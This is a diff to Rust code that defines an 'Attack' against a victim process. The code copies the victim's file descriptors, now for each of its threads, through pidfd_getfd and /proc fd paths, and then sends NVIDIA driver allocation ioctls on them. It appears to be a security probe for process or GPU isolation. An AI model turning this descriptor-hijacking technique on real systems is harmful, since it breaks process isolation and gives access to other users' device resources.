@@ -181,10 +181,7 @@ struct Attack {
 
 impl Attack {
     fn new(victim: Pid) -> Result<Attack, Box<dyn std::error::Error>> {
-        // SAFETY: pidfd_open takes no pointer.
-        let pidfd = unsafe { libc::syscall(libc::SYS_pidfd_open, victim.as_raw(), 0) };
-        // SAFETY: the kernel just made this descriptor, so nothing else owns it.
-        let pidfd = unsafe { OwnedFd::from_raw_fd(Errno::result(pidfd)? as RawFd) };
+        let pidfd = pidfd_open(victim.as_raw(), 0).ok_or("no pidfd")?;
         let number = |node: Node| fs::metadata(path(node)).map(|status| status.rdev());
         let numbers = NODES
             .map(number)
@@ -236,7 +233,7 @@ impl Attack {
         ] {
             self.opened(findings, &path);
         }
-        if let Some(copy) = self.copy(other) {
+        if let Some(copy) = copy(&self.pidfd, other) {
             self.all(findings, &copy);
         }
     }
@@ -340,29 +337,46 @@ impl Attack {
         }
     }
 
-    /// The one request that a pin is, on copies of whatever the victim has right now.
+    /// The one request that a pin is, on copies of whatever each thread of the victim has right now.
     fn copies(&self, findings: &mut Findings) {
         let pin = [ioctl_word(NV_ESC_RM_ALLOC_MEMORY, 56)];
-        for number in 3..24 {
-            if let Some(copy) = self.copy(number) {
-                findings.request(self, &copy, &pin);
-            }
-            let path = format!("/proc/{}/fd/{number}", self.victim);
-            let flags = OFlag::O_RDWR | OFlag::O_NONBLOCK | OFlag::O_CLOEXEC;
-            if let Ok(file) = open_file(path.as_str(), flags, Mode::empty()) {
-                findings.request(self, &file, &pin);
+        let Ok(threads) = fs::read_dir(format!("/proc/{}/task", self.victim)) else {
+            return;
+        };
+        for thread in threads.filter_map(Result::ok) {
+            let name = thread.file_name();
+            let number = name.to_str().and_then(|name| name.parse().ok());
+            let pidfd = number.and_then(|number| pidfd_open(number, libc::PIDFD_THREAD));
+            for number in 3..24 {
+                if let Some(copy) = pidfd.as_ref().and_then(|pidfd| copy(pidfd, number)) {
+                    findings.request(self, &copy, &pin);
+                }
+                let path = thread.path().join(format!("fd/{number}"));
+                let flags = OFlag::O_RDWR | OFlag::O_NONBLOCK | OFlag::O_CLOEXEC;
+                if let Ok(file) = open_file(&path, flags, Mode::empty()) {
+                    findings.request(self, &file, &pin);
+                }
             }
         }
     }
+}
 
-    fn copy(&self, number: RawFd) -> Option<OwnedFd> {
-        // SAFETY: pidfd_getfd takes no pointer.
-        let copy =
-            unsafe { libc::syscall(libc::SYS_pidfd_getfd, self.pidfd.as_raw_fd(), number, 0) };
-        let copy = RawFd::try_from(copy).ok().filter(|copy| *copy >= 0)?;
-        // SAFETY: the kernel just made this descriptor, so nothing else owns it.
-        Some(unsafe { OwnedFd::from_raw_fd(copy) })
-    }
+/// A descriptor for a process, or for one of its threads (pidfd_open(2)).
+fn pidfd_open(task: libc::pid_t, flags: libc::c_uint) -> Option<OwnedFd> {
+    // SAFETY: pidfd_open takes no pointer.
+    owned(unsafe { libc::syscall(libc::SYS_pidfd_open, task, flags) })
+}
+
+/// A duplicate of another task's descriptor (pidfd_getfd(2)).
+fn copy(pidfd: &OwnedFd, number: RawFd) -> Option<OwnedFd> {
+    // SAFETY: pidfd_getfd takes no pointer.
+    owned(unsafe { libc::syscall(libc::SYS_pidfd_getfd, pidfd.as_raw_fd(), number, 0) })
+}
+
+fn owned(descriptor: libc::c_long) -> Option<OwnedFd> {
+    let descriptor = RawFd::try_from(descriptor).ok().filter(|made| *made >= 0)?;
+    // SAFETY: the kernel just made this descriptor, so nothing else owns it.
+    Some(unsafe { OwnedFd::from_raw_fd(descriptor) })
 }
 
 /// Takes every capability that it can get, and tries to have the nodes on mounts that allow devices. What fails, fails:
